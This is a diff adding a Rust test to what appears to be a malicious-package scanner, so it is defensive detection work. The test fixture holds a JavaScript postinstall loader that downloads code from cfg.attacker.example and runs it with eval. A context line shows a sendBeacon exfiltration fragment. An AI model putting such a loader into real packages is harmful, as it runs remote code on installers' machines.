@@ -234,3 +234,17 @@ window.addEventListener('pagehide', () => navigator.sendBeacon(u, JSON.stringify
     let fixture = with_main(&[("index.js", code)]);
     assert_eq!(strongest(&fixture, "DSCA806"), None);
 }
+
+#[test]
+fn a_helper_declared_after_its_caller_still_carries_the_download() {
+    let loader = r#"main();
+function main() {
+  getConfig('https://cfg.attacker.example/p', (err, code) => { if (!err) eval(code); });
+}
+function getConfig(url, cb) {
+  require('https').get(url, (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => cb(null, b)); });
+}
+"#;
+    let fixture = Fixture::with_postinstall("node setup.js", &[("setup.js", loader)]);
+    assert_eq!(strongest(&fixture, "DSCA802"), Some(Severity::Critical));
+}
